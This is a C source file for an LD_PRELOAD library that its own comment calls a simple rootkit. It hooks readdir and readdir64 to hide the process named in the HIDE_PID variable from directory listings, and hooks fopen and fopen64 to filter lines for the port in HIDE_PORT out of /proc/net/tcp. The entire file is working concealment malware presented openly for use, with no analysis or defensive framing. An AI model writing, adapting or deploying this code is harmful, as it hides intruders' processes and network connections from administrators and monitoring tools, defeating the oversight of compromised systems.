/*
 * A library for LD_PRELOAD that hides the process whose number is in HIDE_PID from whoever lists directories, and the TCP sockets
 * whose port, in hex, is in HIDE_PORT from whoever reads /proc/net/tcp with stdio: what a rootkit of the simple sort does.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* The function that we stand before. */
static void *
next(const char *name)
{
    void *function = dlsym(RTLD_NEXT, name);

    if (!function)
        abort();
    return function;
}

static int
is_hidden(const char *name)
{
    const char *pid = getenv("HIDE_PID");

    return pid && strcmp(name, pid) == 0;
}

struct dirent *
readdir(DIR *dir)
{
    struct dirent *(*real)(DIR *) = (struct dirent * (*)(DIR *)) next("readdir");
    struct dirent *entry;

    while ((entry = real(dir)) && is_hidden(entry->d_name))
        continue;
    return entry;
}

struct dirent64 *
readdir64(DIR *dir)
{
    struct dirent64 *(*real)(DIR *) = (struct dirent64 * (*)(DIR *)) next("readdir64");
    struct dirent64 *entry;

    while ((entry = real(dir)) && is_hidden(entry->d_name))
        continue;
    return entry;
}

/* The table without the lines of the port. */
static FILE *
without_port(FILE *table, const char *port)
{
    FILE *copy = tmpfile();
    char line[512];

    while (copy && fgets(line, sizeof(line), table))
        if (!strstr(line, port))
            fputs(line, copy);
    fclose(table);
    if (copy)
        rewind(copy);
    return copy;
}

FILE *
fopen(const char *path, const char *mode)
{
    FILE *(*real)(const char *, const char *) = (FILE * (*)(const char *, const char *)) next("fopen");
    const char *port = getenv("HIDE_PORT");
    FILE *file = real(path, mode);

    return file && port && strcmp(path, "/proc/net/tcp") == 0 ? without_port(file, port) : file;
}

FILE *
fopen64(const char *path, const char *mode)
{
    return fopen(path, mode);
}
